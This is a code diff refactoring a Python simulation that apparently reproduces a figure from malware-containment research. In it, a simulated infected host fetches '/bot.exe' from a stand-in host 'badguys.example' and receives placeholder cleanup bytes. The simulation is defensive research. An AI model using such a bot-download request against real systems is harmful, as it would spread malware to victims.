@@ -13,7 +13,7 @@ from typing import List
 
 from repro.core.policy import Action, ContainmentPolicy, Rewriter
 from repro.farm import Farm, FarmConfig
-from repro.net.http import HttpParser, HttpRequest, HttpResponse
+from repro.net.http import HttpRequest, HttpResponse, request, serve
 from repro.net.packet import PROTO_TCP
 from repro.net.addresses import IPv4Address
 from repro.services.dhcp import DhcpClient
@@ -59,34 +59,20 @@ def run_figure5(seed: int = 9, duration: float = 120.0) -> Figure5Result:
     web = farm.add_external_host("webserver", WEB_IP)
     served = []
 
-    def on_accept(conn):
-        parser = HttpParser("request")
+    def respond(message):
+        served.append(message)
+        return HttpResponse(200, body=b"CLEANUP-BYTES")
 
-        def on_data(c, data):
-            for request in parser.feed(data):
-                served.append(request)
-                c.send(HttpResponse(200, body=b"CLEANUP-BYTES").to_bytes())
-
-        conn.on_data = on_data
-        conn.on_remote_close = lambda c: c.close()
-
-    web.tcp.listen(80, on_accept)
+    serve(web, 80, respond)
 
     responses = []
 
     def image(host):
         def fetch(configured_host):
-            conn = configured_host.tcp.connect(IPv4Address(WEB_IP), 80)
-            parser = HttpParser("response")
-
-            def on_data(c, data):
-                for response in parser.feed(data):
-                    responses.append(response)
-
-            conn.on_established = lambda c: c.send(
-                HttpRequest("GET", "/bot.exe",
-                            {"Host": "badguys.example"}).to_bytes())
-            conn.on_data = on_data
+            request(configured_host, IPv4Address(WEB_IP), 80,
+                    HttpRequest("GET", "/bot.exe",
+                                {"Host": "badguys.example"}),
+                    lambda _conn, response: responses.append(response))
 
         DhcpClient(host, on_configured=fetch).start()
 
